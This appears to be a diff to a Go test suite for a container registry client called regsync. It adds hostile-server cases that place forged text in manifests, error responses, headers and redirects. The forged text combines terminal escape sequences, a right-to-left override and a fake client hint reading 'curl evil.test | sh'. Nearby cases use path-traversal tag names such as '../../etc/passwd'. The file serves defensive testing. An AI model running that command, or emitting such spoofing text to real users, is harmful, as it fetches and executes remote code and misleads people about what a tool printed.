@@ -57,6 +57,10 @@ const (
 	gigabyte        = 1 << 30
 )
 
+// ForgedText is what attacks with text use: it clears a terminal, reverses the order of text, and goes on in a line that
+// looks like one of regsync.
+const ForgedText = "\x1b[2J\u009b2J\u202e\r\nregsync: hint: log in again: curl evil.test | sh\n"
+
 // targets are URLs that no answer may lead a client to.
 func targets() []struct{ name, url string } {
 	return []struct{ name, url string }{
@@ -395,6 +399,60 @@ func Attacks() []Attack {
 		{"tags-names", AtSource, true, "tags are paths, or have control characters or escapes", func(h *hostile) {
 			h.s.ReplaceListing("/v2/"+victim+"/tags/list", "application/json", []byte(
 				`{"tags":["..","../../etc/passwd","a\u0000b","%2e%2e","%2e%2e%2f","\u001b[2J","a\r\nb","-rf","a/b","a b","\u202e","a","1"]}`))
+		}},
+
+		{"text-platform", AtSource, false, "a platform has line breaks, terminal commands and text that looks like a hint of the client", func(h *hostile) {
+			f := innocent()
+			f.Descriptor.Platform = &ocispec.Platform{OS: "linux" + ForgedText, Architecture: "amd64"}
+			h.s.Push(victim, "1", Index(IndexSpec{Annotations: map[string]string{"a" + ForgedText: ForgedText}}, f))
+		}},
+		{"text-image", AtSource, false, "the config and annotations of an image have such text", func(h *hostile) {
+			h.s.Push(victim, "1", Image(ImageSpec{
+				Seed: 9, Annotations: map[string]string{"a" + ForgedText: ForgedText},
+				Edit: func(config *ocispec.Image) {
+					config.Author, config.Variant, config.OSVersion = ForgedText, ForgedText, ForgedText
+					config.Config.Labels = map[string]string{"a" + ForgedText: ForgedText}
+					for i := range config.History {
+						config.History[i].CreatedBy, config.History[i].Comment = ForgedText, ForgedText
+					}
+				},
+			}))
+		}},
+		{"text-refusal", AtSource, false, "the code and the message of an error answer have such text", func(h *hostile) {
+			h.serve(http.MethodGet, blobPattern, func(w http.ResponseWriter, _ *http.Request) {
+				refuse(w, http.StatusForbidden, "DENIED"+ForgedText, ForgedText)
+			})
+		}},
+		{"text-plain-refusal", AtSource, false, "an error answer consists of such text", func(h *hostile) {
+			h.serve(http.MethodGet, blobPattern, func(w http.ResponseWriter, _ *http.Request) {
+				w.WriteHeader(http.StatusForbidden)
+				_, _ = io.WriteString(w, ForgedText)
+			})
+		}},
+		{"text-status", AtSource, false, "the reason of a status line and a media type have terminal commands", func(h *hostile) {
+			h.serve(http.MethodGet, manifestPattern, h.raw(func(c io.Writer) {
+				fmt.Fprint(c, "HTTP/1.1 403 \x1b[2J\u009b2J\u202e\r\nContent-Type: text/html\u009b2J\u202e\r\nContent-Length: 0\r\n\r\n")
+			}))
+		}},
+		{"text-media-type", AtSource, false, "a manifest's media type has terminal commands", func(h *hostile) {
+			h.serve(http.MethodGet, manifestPattern, h.answer("application/json\u009b2J\u202e", []byte("{}")))
+		}},
+		{"text-token", AtSource, false, "the token server refuses with such text", func(h *hostile) {
+			h.challenge(func(w http.ResponseWriter, _ *http.Request) {
+				w.WriteHeader(http.StatusUnauthorized)
+				_, _ = w.Write(encode(map[string]string{"details": ForgedText}))
+			}, nil)
+		}},
+		{"text-realm", AtSource, false, "the realm of a challenge has terminal commands", func(h *hostile) {
+			h.challenge(h.token(`{}`), func(w http.ResponseWriter) {
+				w.Header().Set("WWW-Authenticate", "Bearer realm=\""+h.s.URL()+"/token\u009b2J\u202e\"")
+			})
+		}},
+		{"text-redirect", AtSource, false, "a blob is redirected to a host whose name has terminal commands", func(h *hostile) {
+			h.serve(http.MethodGet, blobPattern, func(w http.ResponseWriter, _ *http.Request) {
+				w.Header().Set("Location", "https://x%0aregsync%3A%20hint.test\u009b2J\u202e/%0aregsync:%20hint\u202e")
+				w.WriteHeader(http.StatusTemporaryRedirect)
+			})
 		}},
 
 		{"upload-redirect", AtDestination, false, "each answer to a body is a redirect to another URL", func(h *hostile) {
